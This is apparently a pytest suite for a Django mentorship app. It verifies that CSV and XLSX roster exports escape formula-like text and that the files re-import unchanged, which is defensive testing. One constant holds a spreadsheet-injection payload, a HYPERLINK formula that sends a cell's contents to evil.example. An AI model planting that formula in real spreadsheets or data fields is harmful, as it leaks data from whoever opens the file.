"""Roster exports keep text that looks like a formula as text, in CSV and
XLSX, and such a file imports back unchanged."""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from mentorship import models as m
from tests.spreadsheet_checks import assert_xlsx_has_no_formulas, xlsx_rows

from .roster_files import table_counts

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("https://evil.example/?d="&A2,"Open")'
CSV_FORMAT, XLSX_FORMAT = "0", "1"
ROSTERS = {
    "mentorprofile": ("organisation", "mentor@example.test"),
    "studentprofile": ("major", "student@example.test"),
}


def export(client, model, file_format):
    response = client.post(
        reverse(f"admin:mentorship_{model}_export"), {"format": file_format, "resource": "0"}
    )
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")
    return response.content


def csv_rows(content):
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def cell(rows, column, email):
    header, *body = rows
    return next(row for row in body if row[0] == email)[header.index(column)]


def set_value(model, email, column, value):
    profiles = m.MentorProfile if model == "mentorprofile" else m.StudentProfile
    profiles.objects.filter(user__email=email).update(**{column: value})


def stored(model, email, column):
    profiles = m.MentorProfile if model == "mentorprofile" else m.StudentProfile
    return profiles.objects.values_list(column, flat=True).get(user__email=email)


@pytest.mark.parametrize("model", ROSTERS)
def test_csv_export_writes_a_formula_as_text(client, world, model):
    column, email = ROSTERS[model]
    set_value(model, email, column, EVIL)
    client.force_login(world.coordinator)

    rows = csv_rows(export(client, model, CSV_FORMAT))

    assert cell(rows, column, email) == "'" + EVIL


@pytest.mark.parametrize("model", ROSTERS)
def test_xlsx_export_writes_a_formula_as_a_text_cell(client, world, model):
    column, email = ROSTERS[model]
    set_value(model, email, column, EVIL)
    client.force_login(world.coordinator)

    content = export(client, model, XLSX_FORMAT)

    assert_xlsx_has_no_formulas(content)
    assert cell(xlsx_rows(content), column, email) == EVIL


@pytest.mark.parametrize("file_format", [CSV_FORMAT, XLSX_FORMAT])
@pytest.mark.parametrize("model", ROSTERS)
@pytest.mark.parametrize("value", [EVIL, "-ology", "'=quoted", "'Twas", "@home"])
def test_an_exported_roster_imports_back_unchanged(client, world, model, file_format, value):
    column, email = ROSTERS[model]
    set_value(model, email, column, value)
    client.force_login(world.coordinator)
    content = export(client, model, file_format)
    before = table_counts()

    import_url = reverse(f"admin:mentorship_{model}_import")
    name = "roster.csv" if file_format == CSV_FORMAT else "roster.xlsx"
    upload = SimpleUploadedFile(name, content)
    preview = client.post(
        import_url, {"format": file_format, "resource": "0", "import_file": upload}
    )
    assert "confirm_form" in preview.context, preview.content.decode()
    form = preview.context["confirm_form"]
    process_url = reverse(f"admin:mentorship_{model}_process_import")
    assert client.post(process_url, dict(form.initial)).status_code == 302

    assert stored(model, email, column) == value
    assert table_counts() == before


def test_import_template_goes_through_the_same_rule(client, world, monkeypatch):
    from mentorship.resources import MentorRosterResource

    sample = {**MentorRosterResource.sample_rows[0], "organisation": "+86 Holdings"}
    monkeypatch.setattr(MentorRosterResource, "sample_rows", [sample])
    client.force_login(world.coordinator)

    response = client.get(reverse("admin:mentorship_mentorprofile_import_template"))

    assert cell(csv_rows(response.content), "organisation", sample["email"]) == "'+86 Holdings"
